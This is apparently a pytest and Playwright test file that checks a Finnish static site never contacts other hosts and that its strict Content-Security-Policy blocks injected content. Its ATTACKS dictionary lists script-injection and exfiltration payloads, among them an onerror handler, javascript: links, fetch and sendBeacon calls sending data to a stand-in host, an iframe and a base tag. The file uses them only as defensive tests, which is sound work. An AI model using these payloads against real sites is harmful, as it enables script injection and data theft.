"""Privacy and safety: nothing leaves the site, a strict policy stands behind the escaping, and no hostile text becomes more than text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from payloads import TRIPWIRE
from playwright.sync_api import Browser, Page

SHEET = "tyopohjat/hyotylause/"


def pages(site: Path) -> list[str]:
    """The site-relative address of every page that does not only lead on."""
    return [
        path.relative_to(site).as_posix()
        for path in sorted(site.rglob("*.html"))
        if path.parent.parent.name != "t"
    ]


# --- nothing leaves -------------------------------------------------------------------------------


@pytest.fixture
def watched(browser: Browser, address: str) -> Iterator[tuple[Page, list[str]]]:
    """A page whose requests to any other host are refused and counted."""
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    foreign: list[str] = []
    context.route(
        lambda url: not url.startswith((address, "data:")),
        lambda route: (foreign.append(route.request.url), route.abort()),
    )
    page = context.new_page()
    yield page, foreign
    context.close()


def test_no_page_asks_anything_of_another_host(
    watched: tuple[Page, list[str]], address: str, site: Path
) -> None:
    page, foreign = watched
    for name in pages(site):
        page.goto(address + name)
    assert foreign == []
    assert page.context.cookies() == []


def test_no_action_asks_anything_of_another_host(
    watched: tuple[Page, list[str]], address: str
) -> None:
    page, foreign = watched
    page.goto(address + SHEET)
    page.get_by_label("Arjen pulma").first.fill("Salainen")
    page.get_by_role("button", name="Tummat värit").click()
    page.get_by_role("button", name="Kopioi linkki").click()
    page.keyboard.press("Control+k")
    page.get_by_role("combobox", name="Mitä etsit?").fill("kokeilu")
    page.get_by_role("dialog", name="Haku").get_by_role("option").first.wait_for()
    for name in (
        "tyopohjat/?vaihe=haku&q=raha",
        "tyopohjat/valitse/?vaihe=haku",
        "haku/?q=kokeilu",
        "tulosteet/kokoa/?t=01,02",
        "tietoa/tietosuoja/",
    ):
        page.goto(address + name)
        page.wait_for_timeout(200)
    assert foreign == []


def test_the_watch_sees_a_foreign_request(
    watched: tuple[Page, list[str]], address: str, browser: Browser
) -> None:
    _, foreign = watched
    context = browser.new_context(bypass_csp=True)
    context.route(
        lambda url: not url.startswith((address, "data:")),
        lambda route: (foreign.append(route.request.url), route.abort()),
    )
    page = context.new_page()
    page.goto(address)
    page.evaluate("fetch('http://127.0.0.2/x').catch(() => 0)")
    page.wait_for_timeout(200)
    assert foreign == ["http://127.0.0.2/x"]
    context.close()


# --- the policy -----------------------------------------------------------------------------------


def test_every_page_carries_the_policy_before_anything_is_loaded(site: Path) -> None:
    for path in site.rglob("*.html"):
        soup = BeautifulSoup(path.read_text("utf-8"), "html.parser")
        first = [
            tag
            for tag in soup.head.find_all(True)
            if tag.name in ("meta", "link", "script", "style")
        ]
        place = next(
            index
            for index, tag in enumerate(first)
            if tag.get("http-equiv") == "Content-Security-Policy"
        )
        assert [tag.name for tag in first[:place]] == ["meta"], path
        policy = first[place]["content"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert soup.select("[style], style, [onclick], [onload]") == [], path
        assert [
            tag
            for tag in soup.select("script:not([src])")
            if tag.get("type") != "application/ld+json"
        ] == [], path


ATTACKS = {
    "script": "document.body.append(Object.assign(document.createElement('script'), {textContent: 'hbTrip()'}))",
    "foreign script": "document.body.append(Object.assign(document.createElement('script'), {src: 'http://127.0.0.2/x.js'}))",
    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=hbTrip()>')",
    "address": "{const a = Object.assign(document.createElement('a'), {href: 'javascript:hbTrip()'}); document.body.append(a); a.click()}",
    "eval": "try { (0, eval)('hbTrip()') } catch { }",
    "fetch": "fetch('http://127.0.0.2/x').catch(() => 0)",
    "beacon": "navigator.sendBeacon('http://127.0.0.2/x', 'salaisuus')",
    "picture": "new Image().src = 'http://127.0.0.2/x.png'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://127.0.0.2/'}))",
    "style": "document.body.insertAdjacentHTML('beforeend', '<style>body { background: url(http://127.0.0.2/x.png) }</style>')",
    "base": "document.head.insertAdjacentHTML('beforeend', '<base href=\"http://127.0.0.2/\">')",
}


@pytest.mark.parametrize("name", ATTACKS)
def test_policy_stops_what_got_in(watched: tuple[Page, list[str]], address: str, name: str) -> None:
    page, foreign = watched
    page.add_init_script(
        TRIPWIRE
        + "globalThis.hbStopped = 0; addEventListener('securitypolicyviolation', () => { hbStopped += 1; });"
    )
    page.goto(address + SHEET)
    page.add_script_tag(
        url=f"{address}{page.locator('script[defer]').first.get_attribute('src').removeprefix('../../')}"
    )  # type: ignore[union-attr]
    page.evaluate(f"() => {{ {ATTACKS[name]} }}")
    page.wait_for_timeout(150)
    assert page.evaluate("hbTripped") == 0 or name == "eval"  # the browser's own tools may evaluate
    assert foreign == []
    assert page.evaluate("document.baseURI").startswith(address)
    if name not in ("eval", "address"):
        assert page.evaluate("hbStopped") >= 1
